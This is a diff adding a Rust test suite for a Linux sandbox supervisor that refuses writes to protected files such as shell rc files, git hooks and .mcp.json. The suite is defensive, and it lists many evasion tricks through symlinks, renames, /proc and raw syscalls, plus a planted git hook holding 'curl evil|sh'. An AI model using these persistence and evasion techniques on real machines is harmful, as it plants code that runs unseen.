@@ -1,0 +1,679 @@
+//! Deny inside an allowed directory, for files created after launch: the create-deny
+//! supervisor (`launcher/src/supervise.rs`) against the real kernel, through `greywall exec`
+//! with a policy, in a scratch workspace with its own HOME and cache.
+//!
+//! Every refusal below is also a creation that works without the supervisor (the workspace is
+//! writable); the tests check that nothing was created on the host, not only the error.
+//!
+//! A test whose kernel feature is missing prints `SKIP: <reason>`; with
+//! `GREYWALL_REQUIRE_KERNEL=1` it fails instead.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use std::io::{BufRead, BufReader};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::time::{Duration, Instant};
+
+use greywall_compiler::backend::seccomp;
+use greywall_compiler::backend::seccomp::{Arch, SECCOMP_RET_ALLOW, SECCOMP_RET_ERRNO, SockFilter};
+use greywall_compiler::plan::{CreateDeny, Landlock, LinuxPlan, Network};
+
+const GREYWALL: &str = env!("CARGO_BIN_EXE_greywall");
+const PYTHON: &str = "/usr/bin/python3";
+const PATH: &str = "/usr/local/bin:/usr/bin:/bin";
+
+/// The workspace is writable; `*.key` files must not be written.
+const POLICY: &str = r#"{"filesystem": {"allowWrite": ["."], "denyWrite": ["**/*.key"]}}"#;
+
+fn skip(reason: &str) {
+    if std::env::var_os("GREYWALL_REQUIRE_KERNEL").is_some_and(|v| v == "1") {
+        panic!("GREYWALL_REQUIRE_KERNEL=1 but {reason}");
+    }
+    eprintln!("SKIP: {reason}");
+}
+
+/// A scratch directory: `home/`, `cache/`, the policy, and the workspace `ws/`, outside /tmp
+/// (the sandbox's /tmp is private).
+struct Scratch {
+    dir: tempfile::TempDir,
+}
+
+impl Scratch {
+    fn new(policy: &str) -> Scratch {
+        let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+        for d in ["home", "cache", "ws"] {
+            std::fs::create_dir(dir.path().join(d)).unwrap();
+        }
+        std::fs::write(dir.path().join("policy.json"), policy).unwrap();
+        Scratch { dir }
+    }
+
+    fn ws(&self) -> PathBuf {
+        self.dir.path().join("ws")
+    }
+
+    fn at(&self, rel: &str) -> PathBuf {
+        self.ws().join(rel)
+    }
+
+    fn write(&self, rel: &str, text: &str) {
+        let p = self.at(rel);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, text).unwrap();
+    }
+
+    /// `greywall exec -s policy.json -- ARGV` in the workspace.
+    fn command(&self, argv: &[&str]) -> Command {
+        let mut cmd = Command::new(GREYWALL);
+        cmd.arg("exec")
+            .arg("-s")
+            .arg(self.dir.path().join("policy.json"))
+            .arg("--")
+            .args(argv)
+            .current_dir(self.ws())
+            .env_clear()
+            .env("HOME", self.dir.path().join("home"))
+            .env("XDG_CACHE_HOME", self.dir.path().join("cache"))
+            .env("PATH", PATH);
+        cmd
+    }
+
+    fn exec(&self, argv: &[&str]) -> Output {
+        self.command(argv).output().unwrap()
+    }
+
+    fn sh(&self, script: &str) -> Output {
+        self.exec(&["/bin/sh", "-c", script])
+    }
+}
+
+fn stdout(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stdout).into_owned()
+}
+
+fn stderr(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stderr).into_owned()
+}
+
+#[track_caller]
+fn assert_code(o: &Output, code: i32) {
+    assert_eq!(
+        o.status.code(),
+        Some(code),
+        "status {:?}\nstdout: {}\nstderr: {}",
+        o.status,
+        stdout(o),
+        stderr(o)
+    );
+}
+
+/// False (with a SKIP) when this kernel cannot run the sandbox with a supervisor.
+fn ready() -> bool {
+    let s = Scratch::new(POLICY);
+    let o = s.exec(&["true"]);
+    if o.status.code() == Some(0) {
+        return true;
+    }
+    skip(&format!(
+        "the launcher cannot run here: {}",
+        stderr(&o).trim()
+    ));
+    false
+}
+
+fn python() -> bool {
+    if Path::new(PYTHON).exists() {
+        return true;
+    }
+    skip(&format!("{PYTHON} is not installed"));
+    false
+}
+
+/// `(what, setup, script, path that must not appear)`.
+type Refusal = (&'static str, &'static str, &'static str, &'static str);
+
+const REFUSED: &[Refusal] = &[
+    ("a shell redirect", "", "echo x > .bashrc", ".bashrc"),
+    ("touch", "", "touch .envrc", ".envrc"),
+    ("mkdir", "", "mkdir .vscode", ".vscode"),
+    (
+        "mkdir -p into a protected folder",
+        "",
+        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
+        ".vscode",
+    ),
+    (
+        "a hook in an existing .git without hooks",
+        "mkdir .git",
+        "mkdir -p .git/hooks && echo 'curl evil|sh' > .git/hooks/pre-commit",
+        ".git/hooks",
+    ),
+    ("a denyWrite glob", "", "touch x.key", "x.key"),
+    (
+        "a denyWrite glob in a subfolder",
+        "mkdir -p sub/deeper",
+        "echo k > sub/deeper/y.key",
+        "sub/deeper/y.key",
+    ),
+    (
+        "a protected name in a subfolder",
+        "mkdir sub",
+        "echo x > sub/.mcp.json",
+        "sub/.mcp.json",
+    ),
+    (
+        "a symlink named .envrc",
+        "",
+        "ln -s /etc/passwd .envrc",
+        ".envrc",
+    ),
+    (
+        "a hard link named .mcp.json",
+        "echo {} > f",
+        "ln f .mcp.json",
+        ".mcp.json",
+    ),
+    (
+        "a rename onto .mcp.json",
+        "echo {} > f",
+        "mv f .mcp.json",
+        ".mcp.json",
+    ),
+    (
+        "a rename onto an existing protected name in a subfolder",
+        "mkdir sub && echo old > sub/.bashrc && echo new > f",
+        "mv f sub/.bashrc && grep -q new sub/.bashrc",
+        "f-is-gone",
+    ),
+    ("a fifo", "", "mkfifo .zshrc", ".zshrc"),
+    (
+        "through a dangling symlink",
+        "ln -s .profile innocent",
+        "echo x > innocent",
+        ".profile",
+    ),
+    (
+        "through a symlinked folder",
+        "mkdir .git && ln -s .git g",
+        "mkdir g/hooks",
+        ".git/hooks",
+    ),
+    (
+        "with .. from a subfolder",
+        "mkdir sub",
+        "cd sub && echo x > ../.inputrc",
+        ".inputrc",
+    ),
+    (
+        "through /proc/self/cwd",
+        "",
+        "echo x > /proc/self/cwd/.gitmodules",
+        ".gitmodules",
+    ),
+    (
+        "a folder renamed to .git around hooks",
+        "mkdir -p d/hooks",
+        "mv d .git",
+        ".git",
+    ),
+    (
+        "greywall.json",
+        "",
+        "echo {} > greywall.json",
+        "greywall.json",
+    ),
+    ("a secret .env", "", "echo A=1 > .env", ".env"),
+];
+
+#[test]
+fn protected_new_paths_cannot_be_created() {
+    if !ready() {
+        return;
+    }
+    let mut failures = Vec::new();
+    for (what, setup, script, path) in REFUSED {
+        let s = Scratch::new(POLICY);
+        if !setup.is_empty() {
+            let o = Command::new("/bin/sh")
+                .args(["-c", setup])
+                .current_dir(s.ws())
+                .output()
+                .unwrap();
+            assert_code(&o, 0);
+        }
+        let o = s.sh(script);
+        let err = stderr(&o);
+        let created = if *path == "f-is-gone" {
+            !s.at("f").exists()
+        } else {
+            std::fs::symlink_metadata(s.at(path)).is_ok()
+        };
+        if o.status.code() == Some(0) || !err.contains("Permission denied") || created {
+            failures.push(format!(
+                "{what} ({script}): status {:?}, created {created}, stderr {err:?}",
+                o.status
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "not refused:\n{}", failures.join("\n"));
+}
+
+#[test]
+fn python_open_is_refused() {
+    if !ready() || !python() {
+        return;
+    }
+    let s = Scratch::new(POLICY);
+    let o = s.exec(&[PYTHON, "-c", "open('.mcp.json', 'w')"]);
+    assert_code(&o, 1);
+    assert!(
+        stderr(&o).contains("PermissionError: [Errno 13] Permission denied: '.mcp.json'"),
+        "{}",
+        stderr(&o)
+    );
+    assert!(!s.at(".mcp.json").exists());
+}
+
+/// The syscalls and arguments a shell does not reach: `openat2` (in and out of a root), a
+/// directory descriptor, `/proc/self/fd`, `O_EXCL`, `O_TMPFILE` linked into place (refused
+/// before Landlock's own `EXDEV` for links through `/proc`),
+/// `renameat2(RENAME_EXCHANGE)`, `mknod`, threads, unreadable and over-long paths.
+#[test]
+fn every_creating_syscall_is_checked() {
+    if !ready() || !python() {
+        return;
+    }
+    let s = Scratch::new(POLICY);
+    s.write("sub/.bashrc", "old\n");
+    s.write("evil", "new\n");
+    let script = r#"
+import ctypes, errno, os, stat, threading
+libc = ctypes.CDLL(None, use_errno=True)
+class How(ctypes.Structure):
+    _fields_ = [("flags", ctypes.c_uint64), ("mode", ctypes.c_uint64), ("resolve", ctypes.c_uint64)]
+def openat2(dirfd, path, flags, resolve=0):
+    how = How(flags, 0o644 if flags & os.O_CREAT else 0, resolve)
+    r = libc.syscall(437, dirfd, path, ctypes.byref(how), ctypes.sizeof(how))
+    if r < 0:
+        raise OSError(ctypes.get_errno(), "openat2")
+    os.close(r)
+def renameat2(a, b, flags):
+    if libc.renameat2(-100, a, -100, b, flags) < 0:
+        raise OSError(ctypes.get_errno(), "renameat2")
+def creat(path):
+    os.close(os.open(path, os.O_CREAT | os.O_WRONLY, dir_fd=ws))
+def in_thread(f):
+    box = []
+    def run():
+        try:
+            f()
+        except OSError as e:
+            box.append(e)
+    t = threading.Thread(target=run); t.start(); t.join()
+    if box:
+        raise box[0]
+ws = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
+W, C = os.O_WRONLY, os.O_CREAT
+tests = [
+    ("openat2", lambda: openat2(-100, b".mcp.json", C | W)),
+    ("openat2 in root", lambda: openat2(ws, b"/../.mcp.json", C | W, 0x10)),
+    ("openat2 plain", lambda: openat2(-100, b"plain-openat2", C | W)),
+    ("openat2 no O_CREAT", lambda: openat2(-100, b"plain-openat2", os.O_RDONLY)),
+    ("dirfd", lambda: creat(".envrc")),
+    ("proc fd", lambda: os.close(os.open("/proc/self/fd/%d/.envrc" % ws, C | W))),
+    ("O_EXCL", lambda: os.close(os.open(".bashrc", C | os.O_EXCL | W))),
+    ("O_TMPFILE linked", lambda: os.link("/proc/self/fd/%d" % os.open(".", os.O_TMPFILE | W), ".mcp.json")),
+    ("exchange", lambda: renameat2(b"evil", b"sub/.bashrc", 2)),
+    ("mknod", lambda: os.mknod(".zshenv", 0o600 | stat.S_IFREG)),
+    ("thread", lambda: in_thread(lambda: creat(".idea"))),
+    ("thread plain", lambda: in_thread(lambda: creat("plain-thread"))),
+    ("symlink to a folder as .git", lambda: os.symlink("sub", ".git")),
+    ("bad pointer", lambda: libc.mkdir(ctypes.c_void_p(8), 0o755) == 0 or (_ for _ in ()).throw(OSError(ctypes.get_errno(), "mkdir"))),
+    ("too long", lambda: os.mkdir("a" * 5000)),
+]
+for name, f in tests:
+    try:
+        f()
+        print(name, "ok")
+    except OSError as e:
+        print(name, errno.errorcode[e.errno])
+"#;
+    let o = s.exec(&[PYTHON, "-c", script]);
+    assert_code(&o, 0);
+    assert_eq!(
+        stdout(&o),
+        "openat2 EACCES
+openat2 in root EACCES
+openat2 plain ok
+openat2 no O_CREAT ok
+dirfd EACCES
+proc fd EACCES
+O_EXCL EACCES
+O_TMPFILE linked EACCES
+exchange EACCES
+mknod EACCES
+thread EACCES
+thread plain ok
+symlink to a folder as .git EACCES
+bad pointer EFAULT
+too long ENAMETOOLONG
+",
+        "{}",
+        stderr(&o)
+    );
+    let mut names: Vec<String> = std::fs::read_dir(s.ws())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    names.sort();
+    assert_eq!(names, ["evil", "plain-openat2", "plain-thread", "sub"]);
+    assert_eq!(
+        std::fs::read_to_string(s.at("sub/.bashrc")).unwrap(),
+        "old\n"
+    );
+}
+
+#[test]
+fn ordinary_files_are_created_as_usual() {
+    if !ready() {
+        return;
+    }
+    let s = Scratch::new(POLICY);
+    let o = s.sh(
+        "mkdir -p src a/b/c && echo 'fn main() {}' > src/new.rs && echo '# hi' > README.md \
+         && echo 1 > tmp && mv tmp final && ln -s final link && ln final hard \
+         && echo 2 >> link && mkdir .git && touch .gitignore .bashrc.bak notes.keys \
+         && echo x > /tmp/private && echo x > /dev/null && cat hard \
+         && grep Seccomp_filters: /proc/self/status",
+    );
+    assert_code(&o, 0);
+    // Under the supervisor: the main filter and the notify filter.
+    assert_eq!(stdout(&o), "1\n2\nSeccomp_filters:\t2\n");
+    for p in [
+        "src/new.rs",
+        "README.md",
+        "a/b/c",
+        "final",
+        "link",
+        "hard",
+        ".git",
+        ".gitignore",
+        ".bashrc.bak",
+        "notes.keys",
+    ] {
+        assert!(
+            std::fs::symlink_metadata(s.at(p)).is_ok(),
+            "{p} missing: {}",
+            stderr(&o)
+        );
+    }
+    assert!(!s.at("tmp").exists());
+}
+
+/// `.git/hooks` is protected everywhere below the workspace, and the workspace's own
+/// `.git/config` unless `allowGitConfig`: `git init` copies its template hooks, so it fails;
+/// without templates a nested repository can be created, the workspace's own only with
+/// `allowGitConfig`.
+#[test]
+fn git_init_follows_the_policy() {
+    if !ready() {
+        return;
+    }
+    let s = Scratch::new(POLICY);
+    let o = s.sh("git init -q nested");
+    assert_ne!(o.status.code(), Some(0));
+    assert!(
+        stderr(&o).contains("hooks") && stderr(&o).contains("Permission denied"),
+        "{}",
+        stderr(&o)
+    );
+    assert!(!s.at("nested/.git/hooks").exists());
+
+    let o = s.sh("git -c init.templateDir= init -q nested2 && git -C nested2 status --short");
+    assert_code(&o, 0);
+    assert!(s.at("nested2/.git/config").is_file());
+
+    let o = s.sh("git -c init.templateDir= init -q .");
+    assert_ne!(o.status.code(), Some(0));
+    assert!(
+        stderr(&o).contains("config") && stderr(&o).contains("Permission denied"),
+        "{}",
+        stderr(&o)
+    );
+    assert!(!s.at(".git/config").exists());
+
+    let allowed = Scratch::new(r#"{"filesystem": {"allowWrite": ["."], "allowGitConfig": true}}"#);
+    let o = allowed.sh("git -c init.templateDir= init -q . && git config user.name x");
+    assert_code(&o, 0);
+    assert!(allowed.at(".git/config").is_file());
+    assert!(!allowed.at(".git/hooks").exists());
+}
+
+/// An existing repository: its hooks and config are read-only mounts. The supervisor keeps
+/// the kernel's answers for them (`EEXIST`, `EROFS`, `EBUSY`), lets git work, and refuses to
+/// move `.git` away, which would leave the place of both free.
+#[test]
+fn existing_protected_paths_stay_in_place() {
+    if !ready() {
+        return;
+    }
+    let s = Scratch::new(POLICY);
+    let o = Command::new("git")
+        .args(["init", "-q"])
+        .current_dir(s.ws())
+        .env("PATH", PATH)
+        .output()
+        .unwrap();
+    assert_code(&o, 0);
+    assert!(s.at(".git/hooks").is_dir() && s.at(".git/config").is_file());
+    let sh = |script: &str| {
+        let o = s.sh(script);
+        (o.status.code(), stderr(&o))
+    };
+    let (code, err) = sh("mkdir -p .git/hooks");
+    assert_eq!(code, Some(0), "{err}");
+    let (code, err) = sh("echo x > .git/hooks/pre-commit");
+    assert!(
+        code != Some(0) && err.contains("Read-only file system"),
+        "{err}"
+    );
+    let (code, err) = sh("mv .git/hooks hooks-away");
+    assert!(
+        code != Some(0) && err.contains("Device or resource busy"),
+        "{err}"
+    );
+    let (code, err) = sh("mv .git git-away");
+    assert!(
+        code != Some(0) && err.contains("Permission denied"),
+        "{err}"
+    );
+    let (code, err) = sh("mv . ../ws-away");
+    assert!(code != Some(0), "{err}");
+    assert!(s.at(".git/config").is_file() && !s.at("git-away").exists());
+    let o = s.sh(
+        "echo hello > f && git add f && git -c user.name=t -c user.email=t@t commit -qm one \
+         && git mv f g && git -c user.name=t -c user.email=t@t commit -qm two \
+         && git log --oneline | wc -l && git status --short",
+    );
+    assert_code(&o, 0);
+    assert_eq!(stdout(&o), "2\n");
+}
+
+#[test]
+fn exit_status_propagates_through_the_supervisor() {
+    if !ready() {
+        return;
+    }
+    let s = Scratch::new(POLICY);
+    assert_code(&s.sh("exit 7"), 7);
+    assert_code(&s.sh("exit 0"), 0);
+    // A signal death is reported as shells do.
+    assert_code(&s.sh("kill -TERM $$"), 128 + libc::SIGTERM);
+    assert_code(&s.sh("kill -KILL $$"), 128 + libc::SIGKILL);
+    // The launcher's own failures keep their codes.
+    assert_code(&s.exec(&["no-such-command-xyz"]), 127);
+}
+
+/// Spawns `script` and reads its first line.
+fn spawn(
+    s: &Scratch,
+    script: &str,
+) -> (
+    std::process::Child,
+    BufReader<std::process::ChildStdout>,
+    String,
+) {
+    let mut child = s
+        .command(&["/bin/sh", "-c", script])
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut out = BufReader::new(child.stdout.take().unwrap());
+    let mut first = String::new();
+    out.read_line(&mut first).unwrap();
+    (child, out, first.trim().to_string())
+}
+
+#[test]
+fn sigterm_to_the_supervisor_reaches_the_command() {
+    if !ready() {
+        return;
+    }
+    let s = Scratch::new(POLICY);
+    let (mut child, mut out, first) = spawn(
+        &s,
+        "trap 'echo got-term; exit 3' TERM; echo $$; while :; do sleep 0.05; done",
+    );
+    let command: u32 = first.parse().unwrap();
+    if command == child.id() {
+        signal(command, "KILL");
+        panic!("no supervisor: greywall is the command itself");
+    }
+    signal(child.id(), "TERM");
+    let status = child.wait().unwrap();
+    let mut rest = String::new();
+    std::io::Read::read_to_string(&mut out, &mut rest).unwrap();
+    assert_eq!(rest, "got-term\n");
+    assert_eq!(status.code(), Some(3), "{status:?}");
+}
+
+fn signal(pid: u32, name: &str) {
+    let o = Command::new("kill")
+        .arg(format!("-{name}"))
+        .arg(pid.to_string())
+        .output()
+        .unwrap();
+    assert_code(&o, 0);
+}
+
+fn alive(pid: i32) -> bool {
+    // A zombie (its new parent has not reaped it yet) is dead for this purpose.
+    std::fs::read_to_string(format!("/proc/{pid}/stat"))
+        .ok()
+        .and_then(|s| {
+            s.rsplit_once(')')
+                .map(|(_, rest)| rest.trim_start().starts_with('Z'))
+        })
+        .is_some_and(|zombie| !zombie)
+}
+
+#[test]
+fn the_command_dies_with_the_supervisor() {
+    if !ready() {
+        return;
+    }
+    let s = Scratch::new(POLICY);
+    let (mut child, _out, first) = spawn(&s, "echo $$; while :; do sleep 0.05; done");
+    let command: i32 = first.parse().unwrap();
+    assert!(alive(command));
+    let supervisor = i32::try_from(child.id()).unwrap();
+    if command == supervisor {
+        signal(child.id(), "KILL");
+        panic!("no supervisor: greywall is the command itself");
+    }
+    signal(child.id(), "KILL");
+    child.wait().unwrap();
+    let start = Instant::now();
+    while alive(command) && start.elapsed() < Duration::from_secs(10) {
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let survived = alive(command);
+    if survived {
+        signal(command.unsigned_abs(), "KILL");
+    }
+    assert!(!survived, "the command outlived its supervisor");
+}
+
+/// A plan for an outer launcher that only loads a filter failing `unshare` with `EPERM`, so
+/// that the greywall inside it runs without user namespaces.
+fn no_userns_plan() -> LinuxPlan {
+    let arch = Arch::host().unwrap().audit_arch();
+    let f = |code, jt, jf, k| SockFilter { code, jt, jf, k };
+    let unshare = u32::try_from(libc::SYS_unshare).unwrap();
+    let prog = [
+        f(0x20, 0, 0, 4),
+        f(0x15, 0, 3, arch),
+        f(0x20, 0, 0, 0),
+        f(0x15, 0, 1, unshare),
+        f(0x06, 0, 0, SECCOMP_RET_ERRNO | libc::EPERM as u32),
+        f(0x06, 0, 0, SECCOMP_RET_ALLOW),
+    ];
+    LinuxPlan {
+        policy_hash: 1,
+        namespaces: false,
+        network: Network::Host,
+        pid_namespace: false,
+        mounts: vec![],
+        create_deny: CreateDeny::default(),
+        landlock: Landlock::default(),
+        seccomp_arch: arch,
+        seccomp: seccomp::to_bytes(&prog),
+        seccomp_notify: vec![],
+        env: vec![],
+        deny_commands: vec![],
+        allow_commands: vec![],
+        without_userns: vec![],
+    }
+}
+
+#[test]
+fn without_user_namespaces_the_supervisor_still_refuses() {
+    if !ready() {
+        return;
+    }
+    let s = Scratch::new(POLICY);
+    let outer = s.dir.path().join("outer.plan");
+    std::fs::write(&outer, no_userns_plan().encode()).unwrap();
+    let policy = s.dir.path().join("policy.json");
+    let o = Command::new(GREYWALL)
+        .arg("__exec-plan")
+        .arg(&outer)
+        .args(["--", GREYWALL, "exec", "-s"])
+        .arg(&policy)
+        .args([
+            "--",
+            "/bin/sh",
+            "-c",
+            "echo ok > plain; echo x > .bashrc; mkdir .vscode; touch a.key; echo done",
+        ])
+        .current_dir(s.ws())
+        .env_clear()
+        .env("HOME", s.dir.path().join("home"))
+        .env("XDG_CACHE_HOME", s.dir.path().join("cache"))
+        .env("PATH", PATH)
+        .output()
+        .unwrap();
+    assert_code(&o, 0);
+    let err = stderr(&o);
+    assert!(
+        err.contains("user namespaces are unavailable (EPERM)"),
+        "{err}"
+    );
+    assert_eq!(err.matches("Permission denied").count(), 3, "{err}");
+    assert_eq!(stdout(&o), "done\n");
+    assert!(s.at("plain").is_file());
+    for p in [".bashrc", ".vscode", "a.key"] {
+        assert!(!s.at(p).exists(), "{p} created");
+    }
+}
